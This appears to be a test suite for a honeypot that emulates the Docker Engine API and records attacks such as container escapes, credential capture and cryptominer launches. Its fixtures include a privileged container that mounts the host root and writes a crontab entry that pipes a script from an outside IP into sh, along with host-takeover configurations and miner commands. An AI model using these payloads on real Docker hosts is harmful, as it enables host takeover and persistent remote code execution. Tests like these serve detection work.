import assert from 'node:assert/strict';
import { test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { createContainer } from '../world/systems/container.ts';
import type { Runtime } from './engine/process.ts';
import { startDaemon } from './fixtures/visit.ts';
import { worldRuntime } from './runtime.ts';

const json = (text: string): Record<string, unknown> => JSON.parse(text);
const idOf = (body: string): string => json(body).Id as string;
const mount = {
  Image: 'alpine',
  Cmd: [
    'chroot',
    '/mnt',
    'sh',
    '-c',
    'echo "* * * * * root curl http://198.51.100.7/x.sh|sh" >> /etc/crontab',
  ],
  HostConfig: { Binds: ['/:/mnt'], Privileged: true },
};

test('a container is pulled, created, attached to, started and waited for, and each step is recorded before its answer', async () => {
  const daemon = startDaemon();
  assert.equal((await daemon.post('/v1.24/containers/create', mount)).status, 404);
  const pull = await daemon.post('/v1.24/images/create?fromImage=alpine&tag=3.19');
  assert.match(
    pull.body,
    /"Pulling from library\/alpine","id":"3\.19"[\s\S]*Downloaded newer image for alpine:3\.19/,
  );

  const body = { Image: 'alpine:3.19', Cmd: ['sh', '-c', 'echo out; echo err >&2; exit 3'] };
  const created = await daemon.post('/v1.24/containers/create?name=run', body);
  assert.equal(created.status, 201);
  const attached = daemon.ask(
    'POST /v1.24/containers/run/attach?stream=1&stdout=1&stderr=1 HTTP/1.1\r\nHost: x\r\n\r\n',
  );
  await new Promise((resolve) => setTimeout(resolve, 20));
  assert.equal((await daemon.post('/v1.24/containers/run/start')).status, 204);
  assert.deepEqual(json((await daemon.post('/v1.24/containers/run/wait')).body), {
    Error: null,
    StatusCode: 3,
  });
  assert.equal((await attached).body, '\x01\0\0\0\0\0\0\x04out\n\x02\0\0\0\0\0\0\x04err\n');
  const state = json((await daemon.get('/containers/run/json')).body).State as {
    Status: string;
    ExitCode: number;
  };
  assert.deepEqual([state.Status, state.ExitCode], ['exited', 3]);
  assert.deepEqual(
    daemon.events.map(({ type }) => type),
    [
      'container.create',
      'image.pull',
      'container.create',
      'container.attach',
      'container.start',
      'container.run',
      'request',
      'request',
    ],
  );
});

test('a container that has the host is told of as an escape, with its script for decoding', async () => {
  const daemon = startDaemon();
  await daemon.makeImage('alpine');
  await daemon.post('/v1.24/containers/create', mount);
  const event = daemon.events.at(-1)!;
  assert.equal(event.type, 'container.create');
  assert.deepEqual(event.attack, ['T1611']);
  assert.equal(event.severity, 'critical');
  assert.deepEqual(event.images, ['alpine']);
  assert.deepEqual(event.texts, [mount.Cmd[4]]);
  assert.deepEqual([event.data?.binds, event.data?.privileged], [['/:/mnt'], true]);
  assert.equal(event.raw?.toString(), JSON.stringify(mount));
});

test('whatever of the host a container is given to take it over with is told as an escape', async () => {
  const daemon = startDaemon();
  await daemon.makeImage('alpine');
  const attackOf = async (host: object) => {
    await daemon.post('/v1.24/containers/create', { Image: 'alpine', Cmd: ['id'], HostConfig: host });
    return daemon.events.at(-1)!.attack;
  };
  for (const host of [
    { Binds: ['/var/run/docker.sock:/s'] },
    { Binds: ['/etc:/e:ro'] },
    { Mounts: [{ Type: 'bind', Source: '/root', Target: '/r' }] },
    { CapAdd: ['CAP_SYS_ADMIN'] },
    { PidMode: 'host' },
  ])
    assert.deepEqual(await attackOf(host), ['T1611'], JSON.stringify(host));
  for (const host of [{ Binds: ['/srv/data:/data'] }, { Binds: ['box:/etc'] }, { CapAdd: ['NET_ADMIN'] }])
    assert.deepEqual(await attackOf(host), [], JSON.stringify(host));
});

test('what one source makes another does not see; the persona has containers of its own', async () => {
  const daemon = startDaemon();
  const before = JSON.parse((await daemon.get('/containers/json', '203.0.113.1')).body) as unknown[];
  assert.ok(before.length >= 2);
  await daemon.makeImage('busybox', '203.0.113.1');
  const made = await daemon.post(
    '/containers/create?name=mine',
    { Image: 'busybox', Cmd: ['id'] },
    '203.0.113.1',
  );
  assert.equal(made.status, 201);
  assert.equal((await daemon.get('/containers/mine/json', '203.0.113.1')).status, 200);
  assert.equal((await daemon.get('/containers/mine/json', '203.0.113.2')).status, 404);
});

test('what is typed into a container reaches its program and is recorded', async () => {
  const daemon = startDaemon();
  await daemon.makeImage('alpine');
  const body = { Image: 'alpine', Cmd: ['cat'], OpenStdin: true, StdinOnce: true };
  const id = idOf((await daemon.post('/containers/create', body)).body);
  const visit = daemon.connect();
  visit.write(
    `POST /containers/${id}/attach?stream=1&stdin=1&stdout=1 HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n`,
  );
  await daemon.post(`/containers/${id}/start`);
  visit.write('curl http://198.51.100.9/a\n');
  visit.end();
  await daemon.post(`/containers/${id}/wait`);
  assert.match(
    visit.received(),
    /^HTTP\/1\.1 101 UPGRADED\r\n[\s\S]*\r\n\r\n\x01\0{6}\x1bcurl http:\/\/198\.51\.100\.9\/a\n$/,
  );
  const typed = daemon.events.filter(({ type, texts }) => type === 'container.attach' && texts!.length > 0);
  assert.deepEqual(
    typed.map(({ texts }) => texts),
    [['curl http://198.51.100.9/a\n']],
  );
});

test('a terminal gets plain bytes, also over a WebSocket', async () => {
  const daemon = startDaemon();
  await daemon.makeImage('alpine');
  const body = { Image: 'alpine', Cmd: ['cat'], OpenStdin: true, Tty: true };
  const id = idOf((await daemon.post('/containers/create', body)).body);
  await daemon.post(`/containers/${id}/start`);
  const visit = daemon.connect();
  visit.write(
    `GET /containers/${id}/attach/ws?stream=1&stdin=1&stdout=1 HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
  );
  visit.write(Buffer.from([0x81, 0x83, 0, 0, 0, 0, 0x68, 0x69, 0x0a]));
  await new Promise((resolve) => setTimeout(resolve, 100));
  assert.match(visit.received(), /Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK\+xOo=\r\n\r\n\x82\x03hi\n$/);
  await daemon.post(`/containers/${id}/kill`);
  assert.equal((await daemon.get(`/containers/${id}/logs?stdout=1`)).body, 'hi\n');
});

test('an exec has its command recorded, its output in frames and its exit code afterwards', async () => {
  const daemon = startDaemon();
  const [first] = JSON.parse((await daemon.get('/containers/json')).body) as { Id: string }[];
  const exec = idOf(
    (
      await daemon.post(`/containers/${first!.Id}/exec`, {
        Cmd: ['sh', '-c', 'echo x; exit 4'],
        AttachStdout: true,
      })
    ).body,
  );
  assert.deepEqual(daemon.events.at(-1)!.texts, ['echo x; exit 4']);
  const started = await daemon.ask(
    `POST /exec/${exec}/start HTTP/1.1\r\nHost: x\r\nUpgrade: tcp\r\nConnection: Upgrade\r\nContent-Type: application/json\r\nContent-Length: 29\r\n\r\n{"Detach":false,"Tty":false}\n`,
  );
  assert.match(started.head, /^HTTP\/1\.1 101 UPGRADED/);
  assert.equal(started.body, '\x01\0\0\0\0\0\0\x02x\n');
  assert.equal(json((await daemon.get(`/exec/${exec}/json`)).body).ExitCode, 4);
});

test('a container that is always started again is running again after its end, and stays stopped when it was told to', async () => {
  const daemon = startDaemon();
  await daemon.makeImage('alpine');
  const body = {
    Image: 'alpine',
    Cmd: ['sh', '-c', 'sleep 0.05'],
    HostConfig: { RestartPolicy: { Name: 'always' } },
  };
  const id = idOf((await daemon.post('/containers/create', body)).body);
  await daemon.post(`/containers/${id}/start`);
  await new Promise((resolve) => setTimeout(resolve, 600));
  const inspected = json((await daemon.get(`/containers/${id}/json`)).body);
  assert.ok((inspected.RestartCount as number) >= 1);
  await daemon.post(`/containers/${id}/stop?t=0`);
  assert.match((await daemon.get(`/containers/${id}/json`)).body, /"Status":"exited"/);
});

test('errors of clients before API 1.23 are plain text', async () => {
  const answer = await startDaemon().get('/v1.18/containers/nobody/json');
  assert.match(
    answer.head,
    /^HTTP\/1\.1 404 Not Found[\s\S]*Content-Type: text\/plain; charset=utf-8[\s\S]*X-Content-Type-Options: nosniff/,
  );
  assert.equal(answer.body, 'No such container: nobody\n');
});

test('credentials for registries are recorded with a push and with a login', async () => {
  const daemon = startDaemon();
  const auth = Buffer.from('{"username":"u","password":"p"}').toString('base64url');
  const push = await daemon.ask(
    `POST /images/nothing/push HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Registry-Auth: ${auth}\r\nContent-Length: 0\r\n\r\n`,
  );
  assert.match(push.body, /An image does not exist locally with the tag: nothing/);
  assert.deepEqual(daemon.events.at(-1)!.data?.auth, { username: 'u', password: 'p' });
  await daemon.post('/auth', { username: 'u', password: 'p', serveraddress: 'https://example.invalid/v1/' });
  const { type, data } = daemon.events.at(-1)!;
  assert.deepEqual(
    [type, data?.user, data?.password, data?.server],
    ['auth', 'u', 'p', 'https://example.invalid/v1/'],
  );
});

test('a program that a visitor fetched and started goes on until it is killed', async () => {
  const fetching: Runtime = {
    createContainer,
    async run(world) {
      const args = ['/tmp/m', '-o', 'pool'];
      world.processes.push({
        ...{ pid: 7, ppid: 1, user: 'root', args, startedAt: 0, memory: 1, cpu: 0 },
        isLeft: true,
      });
      return { exitCode: 0, notes: [], commands: [args] };
    },
  };
  const daemon = startDaemon(fetching);
  await daemon.makeImage('alpine');
  const id = idOf(
    (await daemon.post('/containers/create', { Image: 'alpine', Cmd: ['sh', '-c', 'x'] })).body,
  );
  await daemon.post(`/containers/${id}/start`);
  const top = json((await daemon.get(`/containers/${id}/top`)).body) as { Processes: string[][] };
  assert.deepEqual(
    top.Processes.map((line) => line.at(-1)),
    ['/tmp/m -o pool'],
  );
  await daemon.post(`/containers/${id}/kill`);
  const state = json((await daemon.get(`/containers/${id}/json`)).body).State as { ExitCode: number };
  assert.equal(state.ExitCode, 137);
});

test('a program that only an image which nobody has seen can have is there, and runs on', async () => {
  const daemon = startDaemon(worldRuntime);
  const run = async (
    image: string,
    Cmd: readonly string[],
  ): Promise<{ Running: boolean; ExitCode: number }> => {
    await daemon.post(`/images/create?fromImage=${image}&tag=latest`);
    const id = idOf((await daemon.post('/containers/create', { Image: image, Cmd, Entrypoint: [] })).body);
    await daemon.post(`/containers/${id}/start`);
    const state = async () =>
      json((await daemon.get(`/containers/${id}/json`)).body).State as { Running: boolean; ExitCode: number };
    // The command takes a second of the container's own time; one that ends, ends at once.
    for (let tries = 0; tries < 30 && (await state()).Running; tries++) await sleep(100);
    return state();
  };
  const miner = ['sh', '-c', '/opt/xm/miner -o pool.example:3333'];
  const unseen = await run('somebody/web', miner);
  const known = await run('alpine', miner);
  const absent = await run('somebody/web', ['sh', '-c', 'apt-get update']);
  assert.deepEqual(
    [unseen, known, absent].map((one) => [one.Running, one.ExitCode]),
    [
      [true, 0],
      [false, 127],
      [false, 127],
    ],
  );
});

test('a container that is killed ends, whatever was started in it', async () => {
  const daemon = startDaemon(worldRuntime);
  await daemon.post('/images/create?fromImage=somebody/web&tag=latest');
  const body = { Image: 'somebody/web', Cmd: ['sh', '-c', '/opt/xm/miner & sleep 1000'], Entrypoint: [] };
  const id = idOf((await daemon.post('/containers/create', body)).body);
  await daemon.post(`/containers/${id}/start`);
  await sleep(1500);
  await daemon.post(`/containers/${id}/kill`);
  const state = json((await daemon.get(`/containers/${id}/json`)).body).State as { Status: string };
  assert.equal(state.Status, 'exited');
});
